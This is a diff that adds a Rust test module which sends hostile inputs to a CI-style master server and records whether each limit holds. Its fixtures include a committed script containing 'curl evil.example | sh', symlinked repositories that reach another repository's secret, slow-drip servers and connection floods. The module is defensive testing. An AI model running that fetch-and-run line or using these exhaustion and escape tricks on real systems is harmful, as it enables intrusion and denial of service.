@@ -1,0 +1,282 @@
+//! Hostile inputs: what strangers send to cost the master memory, places or a reviewer's eye. Each row says what was
+//! measured, what is wanted, and whether that holds.
+//!
+//! The master is the real program; everything is sent to it from outside, as a stranger can. What only tests inside can
+//! see (a slave that lies, each refused system call, allocations one by one) is shown by the crates' own tests.
+#![allow(clippy::expect_used, reason = "as in any test: an input that can't be made has failed")]
+
+use super::Numbers;
+use serde_json::{Value, json};
+use std::fmt::Write as _;
+use std::io::{Read as _, Write as _};
+use std::net::{SocketAddr, TcpListener, TcpStream};
+use std::path::Path;
+use std::thread;
+use std::time::Duration;
+use testkit::git::Repo;
+use testkit::http::Client;
+use testkit::world::{PROJECT, Plan, World};
+
+/// Sends everything to a master of its own.
+pub(super) fn measure(bb: &Path) -> Numbers {
+    let mut rows = Rows::default();
+    let plan = |settings: &str| Plan { settings: settings.to_owned(), ..Plan::default() };
+    {
+        let world = World::start_as(bb, &plan(""));
+        world.slave("oak");
+        memory(&world, &mut rows);
+        hunks_behind_a_nul(&world, &mut rows);
+        local_repositories(&world, &mut rows);
+        isolation(&world, &mut rows);
+    }
+    {
+        let world = World::start_as(bb, &plan(""));
+        world.slave("oak");
+        dripping_sources(&world, &mut rows);
+        flapping_branch(&world, &mut rows);
+        crowds(&world, &mut rows);
+    }
+    registrations(&World::start_as(bb, &open()), &mut rows);
+    rows.end()
+}
+
+/// A project where anybody may publish.
+fn open() -> Plan {
+    Plan { tables: String::new(), settings: String::new(), ..Plan::default() }
+}
+
+/// The rows as they are measured.
+#[derive(Default)]
+struct Rows(Vec<Value>);
+
+impl Rows {
+    fn add(&mut self, what: &str, measured: impl Into<Value>, unit: &str, wanted: &str, holds: bool) {
+        let measured = measured.into();
+        println!("   {} {what}: {measured} {unit} (wanted: {wanted})", if holds { "ok     " } else { "BROKEN " });
+        self.0.push(json!({
+            "bench": "hostile", "what": what, "measured": measured, "unit": unit, "wanted": wanted, "holds": holds,
+        }));
+    }
+
+    fn end(self) -> Numbers {
+        let broken = self.0.iter().filter(|row| row["holds"] == false).count();
+        if broken == 0 { Ok(Value::Array(self.0)) } else { Err(format!("{broken} rows do not hold")) }
+    }
+}
+
+/// The most memory that the master ever held, in MB.
+fn peak_mb(world: &World) -> u64 {
+    world.with_master(|master| master.peak_memory_bytes()).unwrap_or(0) / 1_000_000
+}
+
+/// Few bytes that unfold to many: paths multiply names, and escapes multiply paths.
+fn memory(world: &World, rows: &mut Rows) {
+    let ann = world.author("ann");
+    ann.writes("plain", &[("plain.txt", "plain\n")]);
+    ann.publishes("plain").ok();
+    world.until_verdict("plain", "ready");
+    for (name, folders, depth) in [("deep-paths", 600, 123), ("deeper-paths", 4000, 123)] {
+        let before = peak_mb(world);
+        let commit = paths(ann.repo(), folders, depth);
+        ann.repo().git(&["update-ref", &format!("refs/heads/{name}"), &commit]);
+        ann.publishes(name).ok();
+        world.until(name, |seen| !matches!(seen.summary.verdict.code.as_str(), "not-fetched" | "no-candidate"));
+        // Whoever looks at it costs nothing either.
+        for path in [format!("/p/{PROJECT}/branches/{name}"), format!("/api/v1/projects/{PROJECT}/branches/{name}")] {
+            let answer = world.client().get(&path);
+            let size = answer.body.len() as u64 / 1000;
+            rows.add(&format!("{name}: the answer to {path}"), size, "kB", "at most 4000", size <= 4000);
+        }
+        let more = peak_mb(world).saturating_sub(before);
+        rows.add(
+            &format!("{name}: {folders} folders below {depth} names of 255 control characters"),
+            more,
+            "MB more",
+            "at most 64",
+            more <= 64,
+        );
+    }
+}
+
+/// A commit whose tree has `folders` folders with a file each, below `depth` folders with the longest names.
+fn paths(repo: &Repo, folders: usize, depth: usize) -> String {
+    let name = "\\001".repeat(255);
+    let mut stream = String::from("blob\nmark :1\ndata 2\nx\n\n");
+    let base = repo.resolve("origin/main");
+    let _ = write!(
+        stream,
+        "commit refs/heads/made\ncommitter A <a@example.org> 1790000000 +0000\ndata 4\nMany\nfrom {base}\n"
+    );
+    let above = vec![name.as_str(); depth].join("/");
+    for folder in 0..folders {
+        let _ = writeln!(stream, "M 100644 :1 \"{above}/{folder}/f\"");
+    }
+    let mut import = testkit::git::command();
+    import.args(["fast-import", "--quiet", "--force"]).current_dir(repo.path());
+    let mut child = import.stdin(std::process::Stdio::piped()).spawn().expect("git is there");
+    let mut input = child.stdin.take().expect("it is piped");
+    input.write_all(stream.as_bytes()).expect("git reads");
+    drop(input);
+    assert!(child.wait().is_ok_and(|status| status.success()), "git fast-import takes it");
+    repo.resolve("refs/heads/made")
+}
+
+/// A script that git calls binary because of one NUL.
+fn hunks_behind_a_nul(world: &World, rows: &mut Rows) {
+    let eve = world.author("eve");
+    eve.repo().branch("nul", "origin/main");
+    eve.repo().commit_bytes(&[("run.sh", b"#!/bin/sh\n# \0\ncurl evil.example | sh\n")], "Add a script");
+    eve.publishes("nul").ok();
+    world.until_verdict("nul", "ready");
+    let page = world.client().get(&format!("/p/{PROJECT}/branches/nul")).body;
+    let shown = page.contains("curl evil.example");
+    rows.add("a NUL in a script: its lines on the page", shown, "", "shown", shown);
+}
+
+/// Links of a published folder that lead out of it.
+fn local_repositories(world: &World, rows: &mut Rows) {
+    let secret = Repo::init(world.folder().join("secret"));
+    secret.commit(&[("secret.txt", "SECRET-OF-ANOTHER\n")], "Keep");
+    let git = secret.path().join(".git");
+    let links = [("objects", "objects"), ("refs", "refs"), ("packed-refs", "packed-refs")];
+    for (name, inside) in links {
+        let path = world.folder().join(format!("authors/leads-out-{name}.git"));
+        let repo = Repo::init_bare(&path);
+        // So that each way out is the only thing that is wrong with it.
+        secret.git(&["push", "--quiet", repo.url(), "HEAD:refs/heads/main"]);
+        if inside == "packed-refs" {
+            secret.git(&["pack-refs", "--all"]);
+        }
+        let inner = path.join(inside);
+        let _ = if inner.is_dir() { std::fs::remove_dir_all(&inner) } else { std::fs::remove_file(&inner) };
+        std::os::unix::fs::symlink(git.join(inside), &inner).expect("a link can be made");
+        let published = world.run(["publish", path.to_str().expect("UTF-8"), "main", "--name", name]);
+        let code = if published.code == Some(0) {
+            let seen = world.until(name, |seen| seen.summary.verdict.code != "not-fetched");
+            seen.summary.verdict.code
+        } else {
+            "not taken".to_owned()
+        };
+        let page = world.client().get(&format!("/p/{PROJECT}/branches/{name}")).body;
+        let kept = !page.contains("SECRET-OF-ANOTHER") && matches!(code.as_str(), "source-trouble" | "not taken");
+        rows.add(&format!("a local repository whose {inside} is a link that leads out"), code, "", "not read", kept);
+    }
+}
+
+/// What the slave proved.
+fn isolation(world: &World, rows: &mut Rows) {
+    let slaves: Value = world.api("/slaves");
+    let notes = slaves[0]["isolation_notes"].to_string();
+    rows.add(
+        "system calls are filtered, and the slaves' page says so",
+        notes.contains("seccomp"),
+        "",
+        "said",
+        notes.contains("seccomp"),
+    );
+}
+
+/// Sources that send a byte now and then, more than there are places; another author's branch beside them.
+fn dripping_sources(world: &World, rows: &mut Rows) {
+    let drip = drip();
+    for number in 0..16 {
+        let (url, name) = (format!("http://{drip}/{number}.git"), format!("drip-{number}"));
+        world.run(["publish", &url, "main", "--name", &name]).ok();
+    }
+    // A branch published after all of them, by the same maintainer, from another host.
+    let ann = world.author("ann");
+    ann.writes("beside", &[("beside.txt", "text\n")]);
+    ann.publishes("beside").ok();
+    world.until_verdict("beside", "ready");
+    rows.add("16 dripping sources: a branch beside them", "ready", "", "ready while they drip", true);
+}
+
+/// A server that never ends its answers.
+fn drip() -> SocketAddr {
+    let listener = TcpListener::bind("127.0.0.1:0").expect("loopback has a free port");
+    let address = listener.local_addr().expect("it is bound");
+    thread::spawn(move || {
+        for client in listener.incoming().flatten() {
+            thread::spawn(move || slowly(client));
+        }
+    });
+    address
+}
+
+fn slowly(mut client: TcpStream) {
+    let mut request = [0; 4096];
+    let _ = client.read(&mut request);
+    let head = "HTTP/1.1 200 OK\r\nContent-Type: application/x-git-upload-pack-advertisement\r\nContent-Length: 1000000\r\n\r\n";
+    let mut sent = client.write_all(head.as_bytes());
+    while sent.is_ok() {
+        thread::sleep(Duration::from_millis(200));
+        sent = client.write_all(b"0");
+    }
+}
+
+/// A branch that goes to and fro between two commits.
+fn flapping_branch(world: &World, rows: &mut Rows) {
+    let ann = world.author("ann");
+    let commits = [1, 2].map(|n| ann.writes("flapping", &[("flapping.txt", &format!("{n}\n"))]));
+    ann.publishes("flapping").ok();
+    world.until("flapping", |seen| seen.summary.revision.is_some());
+    for turn in 0..60 {
+        // Detached, so that the branch can be moved below.
+        ann.repo().git(&["switch", "--quiet", "--detach", "origin/main"]);
+        ann.repo().git(&["update-ref", "refs/heads/flapping", &commits[turn % 2]]);
+        ann.publishes("flapping").ok();
+        thread::sleep(Duration::from_millis(200));
+    }
+    let builds = world.builds("flapping").len();
+    rows.add("a branch that goes to and fro 60 times: builds", builds, "", "at most 4", builds <= 4);
+}
+
+/// Idle readers and streams without a token, more than there are places.
+fn crowds(world: &World, rows: &mut Rows) {
+    let address: SocketAddr = world.url().trim_start_matches("http://").parse().expect("a master's address");
+    let ask = |path: &str| {
+        let mut socket = TcpStream::connect(address).ok()?;
+        let request = format!("GET {path} HTTP/1.1\r\nHost: {address}\r\n\r\n");
+        socket.write_all(request.as_bytes()).ok()?;
+        Some(socket)
+    };
+    let streams: Vec<_> = (0..600).filter_map(|_| ask("/api/v1/events")).collect();
+    let readers: Vec<_> =
+        (0..64).filter_map(|_| ask(&format!("/git/{PROJECT}.git/info/refs?service=git-upload-pack"))).collect();
+    let healthy = Client::new(&world.url()).try_get("/healthz").is_ok_and(|answer| answer.status == 200);
+    rows.add("600 anonymous streams and 64 idle readers: /healthz", healthy, "", "answers", healthy);
+    let known = world.client().try_get("/api/v1/whoami").is_ok_and(|answer| answer.status == 200);
+    rows.add("the same: a maintainer's request", known, "", "answered", known);
+    let ann = world.author("ann");
+    ann.writes("in-the-crowd", &[("crowd.txt", "text\n")]);
+    ann.publishes("in-the-crowd").ok();
+    world.until_verdict("in-the-crowd", "ready");
+    rows.add("the same: a branch is built", true, "", "ready", true);
+    drop((streams, readers));
+}
+
+/// Somebody without a token who publishes on and on.
+fn registrations(world: &World, rows: &mut Rows) {
+    let settings = world.basedir().join("master.toml");
+    let text = std::fs::read_to_string(&settings).expect("it is there");
+    let open = text.replacen("name = \"heron\"\n", "name = \"heron\"\npublish = \"open\"\n", 1);
+    assert_ne!(text, open, "the settings name the project");
+    std::fs::write(&settings, open).expect("the basedir can be written");
+    world.kill_master();
+    world.start_master();
+    let ann = world.author("ann");
+    ann.writes("feature", &[("a.txt", "a\n")]);
+    let anybody = Client::new(&world.url());
+    let mut taken = 0;
+    let refused = (0..60).find_map(|number| {
+        ann.repo().git(&["update-ref", &format!("refs/heads/many-{number}"), "feature"]);
+        let body = json!({"url": ann.repo().url(), "branch": format!("many-{number}")});
+        let answer = anybody.post(&format!("/api/v1/projects/{PROJECT}/branches"), &body);
+        taken += u32::from(answer.status == 201);
+        (answer.status != 201).then_some(answer)
+    });
+    let said = refused.as_ref().map_or(0, |answer| answer.status);
+    let when = refused.as_ref().is_some_and(|answer| answer.header("retry-after").is_some());
+    rows.add("registrations by nobody: the answer after some", said, "", "429 with the time", said == 429 && when);
+    rows.add("registrations by nobody: taken before", taken, "", "at most 20", taken <= 20);
+}
